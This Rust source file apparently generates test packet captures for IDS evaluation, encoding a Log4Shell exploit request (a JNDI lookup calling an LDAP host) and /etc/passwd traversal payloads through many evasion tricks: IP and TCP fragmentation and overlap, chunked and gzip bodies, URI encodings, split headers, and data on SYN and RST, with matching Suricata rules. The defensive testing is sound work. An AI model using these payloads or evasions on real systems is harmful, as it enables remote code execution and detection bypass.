//! The evasion corpus: one capture per way a hostile sender hides `${jndi:` (a Log4Shell
//! lookup) from an inspector while the receiver still assembles it: IP fragments in and
//! out of order, IPv6 fragments, overlapping fragments; TCP segments reversed, shuffled,
//! one byte each, overlapping with other data; HTTP response bodies split, chunked,
//! gzip-compressed; URIs percent-, `%u`- and path-encoded; a header block split at
//! several offsets; data on a SYN (TCP Fast Open) and on a RST. [`RULES`] holds the rules each is run with; `gen-pcap evasion DIR`
//! writes the captures and `scripts/suricata-compare-evasion.sh` runs them through
//! Suricata 7 and the sensor.

use std::io::Write;

use crate::conversation::TcpConversation;
use crate::fragments;

/// The rules the corpus is read with: the lookup on the raw stream (1), in the
/// normalized URI (2), in a response body (3), a traversal in the normalized URI (4), the
/// lookup in the User-Agent (5).
pub const RULES: &str = "\
alert tcp any any -> any 80 (msg:\"jndi on the stream\"; flow:to_server; content:\"${jndi:\"; sid:1;)
alert http any any -> any any (msg:\"jndi in the uri\"; http.uri; content:\"${jndi:\"; sid:2;)
alert http any any -> any any (msg:\"jndi in a response body\"; flow:to_client; file_data; content:\"${jndi:ldap\"; sid:3;)
alert http any any -> any any (msg:\"traversal\"; http.uri; content:\"/etc/passwd\"; sid:4;)
alert http any any -> any any (msg:\"jndi in the user agent\"; http.user_agent; content:\"${jndi:\"; sid:5;)
";

/// The exploit request.
pub const EXPLOIT: &[u8] =
    b"GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\r\nHost: victim\r\nUser-Agent: t\r\n\r\n";

fn open(v6: bool, port: u16) -> TcpConversation {
    let (c, s) = if v6 {
        (format!("[fd00::1]:{port}"), "[fd00::2]:80".to_string())
    } else {
        (format!("10.1.1.1:{port}"), "10.2.2.2:80".to_string())
    };
    TcpConversation::open(c.parse().unwrap(), s.parse().unwrap(), None)
}

/// A connection sending `request` and closing.
fn request(v6: bool, request: &[u8]) -> Vec<Vec<u8>> {
    open(v6, 40000).send(true, request).close().frames()
}

/// The exploit connection with its request datagram cut into 8-byte fragments, in
/// `order` ("in order", "reversed").
fn fragmented(v6: bool, reversed: bool) -> Vec<Vec<u8>> {
    let mut frames = request(v6, EXPLOIT);
    let data = frames.remove(3);
    let mut frags = fragments::split_every(&data, 8, 0x4242);
    if reversed {
        frags.reverse();
    }
    frames.splice(3..3, frags);
    frames
}

/// Fragments overlapping with other data: harmless bytes first at the lookup's place,
/// then a fragment starting before them carrying the lookup (BSD keeps the later one
/// there, as Suricata's default policy does).
fn overlapping_fragments() -> Vec<Vec<u8>> {
    let mut frames = request(false, EXPLOIT);
    let data = frames.remove(3);
    let seg = fragments::payload(&data).to_vec();
    let mut harmless = seg.clone();
    harmless[24..40].copy_from_slice(b"xxxxxxxxxxxxxxxx");
    let frags = vec![
        fragments::piece(&data, 32, &harmless[32..40], true, 9),
        fragments::piece(&data, 24, &seg[24..40], true, 9),
        fragments::piece(&data, 0, &seg[..24], true, 9),
        fragments::piece(&data, 40, &seg[40..], false, 9),
    ];
    frames.splice(3..3, frags);
    frames
}

/// The exploit in `n`-byte segments sent in `order`.
fn reordered(n: usize, order: &[usize]) -> Vec<Vec<u8>> {
    open(false, 40000)
        .send_reordered(true, EXPLOIT, n, order)
        .close()
        .frames()
}

/// A GET answered by `head` and `body` in `mss`-byte segments.
fn response(head: &[u8], body: &[u8], mss: usize) -> Vec<Vec<u8>> {
    let mut all = head.to_vec();
    all.extend_from_slice(body);
    open(false, 40000)
        .send(true, b"GET /page HTTP/1.1\r\nHost: victim\r\n\r\n")
        .send_stream(false, &all, mss)
        .close()
        .frames()
}

/// `data` gzip-compressed.
pub fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).expect("gzip");
    e.finish().expect("gzip")
}

/// `data` in HTTP chunked encoding, `size` bytes a chunk.
pub fn chunked(data: &[u8], size: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for c in data.chunks(size) {
        out.extend_from_slice(format!("{:x}\r\n", c.len()).as_bytes());
        out.extend_from_slice(c);
        out.extend_from_slice(b"\r\n");
    }
    out.extend_from_slice(b"0\r\n\r\n");
    out
}

/// Every case: its name and frames.
pub fn cases() -> Vec<(&'static str, Vec<Vec<u8>>)> {
    let mut page = b"<p>filler</p>".repeat(200);
    page.extend_from_slice(b"<script>${jndi:ldap://203.0.113.9/a}</script>");
    let gz = gzip(&page);
    let k = EXPLOIT.len().div_ceil(8);
    let shuffled: Vec<usize> = {
        let mut v: Vec<usize> = (0..k).collect();
        v.sort_by_key(|i| (i * 7919) % 97);
        v
    };
    let ua = b"GET /x HTTP/1.1\r\nHost: victim\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\nAccept: */*\r\n\r\n";
    let mut header_split = Vec::new();
    for (i, cut) in [3usize, 20, 40, 60, 80].into_iter().enumerate() {
        let conv = open(false, 41000 + i as u16)
            .send(true, &ua[..cut])
            .send(true, &ua[cut..])
            .close();
        header_split.extend(conv.frames());
    }
    vec![
        ("frag-ipv4-in-order", fragmented(false, false)),
        ("frag-ipv4-reversed", fragmented(false, true)),
        ("frag-ipv6-in-order", fragmented(true, false)),
        ("frag-ipv6-reversed", fragmented(true, true)),
        ("frag-overlap", overlapping_fragments()),
        (
            "tcp-reversed",
            reordered(8, &(0..k).rev().collect::<Vec<_>>()),
        ),
        ("tcp-shuffled", reordered(8, &shuffled)),
        (
            "tcp-one-byte",
            open(false, 40000)
                .send_stream(true, EXPLOIT, 1)
                .close()
                .frames(),
        ),
        (
            "tcp-overlap-other-data",
            open(false, 40000)
                .send(true, b"GET /?x=harmless HTTP/1.1\r\n")
                .send_at(true, -27, b"GET /?x=${jndi:l HTTP/1.1\r\n")
                .close()
                .frames(),
        ),
        (
            "body-split",
            response(
                format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\n\r\n", page.len()).as_bytes(),
                &page,
                1300,
            ),
        ),
        (
            "body-chunked",
            response(
                b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n",
                &chunked(&page, 5),
                1448,
            ),
        ),
        (
            "body-gzip",
            response(
                format!(
                    "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
                    gz.len()
                )
                .as_bytes(),
                &gz,
                1448,
            ),
        ),
        (
            "body-gzip-chunked",
            response(
                b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n",
                &chunked(&gz, 64),
                1448,
            ),
        ),
        (
            "uri-percent",
            request(
                false,
                b"GET /?x=%24%7B%6a%6e%64%69%3a%6c%64%61%70 HTTP/1.1\r\nHost: v\r\n\r\n",
            ),
        ),
        (
            "uri-u-encoding",
            request(
                false,
                b"GET /?x=%u0024%u007b%u006a%u006e%u0064%u0069%u003a HTTP/1.1\r\nHost: v\r\n\r\n",
            ),
        ),
        (
            "uri-u-encoding-path",
            request(
                false,
                b"GET /static/%u002e%u002e/%u0065tc/passwd HTTP/1.1\r\nHost: v\r\n\r\n",
            ),
        ),
        (
            "uri-traversal",
            request(
                false,
                b"GET /static/..%2f..%2f..%2fetc/passwd HTTP/1.1\r\nHost: v\r\n\r\n",
            ),
        ),
        (
            "uri-backslash-dots",
            request(
                false,
                b"GET /static\\..\\..\\etc//./passwd HTTP/1.1\r\nHost: v\r\n\r\n",
            ),
        ),
        ("header-split", header_split),
        (
            "tcp-fast-open",
            TcpConversation::open_fast(
                "10.1.1.1:40000".parse().unwrap(),
                "10.2.2.2:80".parse().unwrap(),
                EXPLOIT,
            )
            .close()
            .frames(),
        ),
        (
            "tcp-rst-with-data",
            open(false, 40000).reset_with(true, EXPLOIT).frames(),
        ),
    ]
}
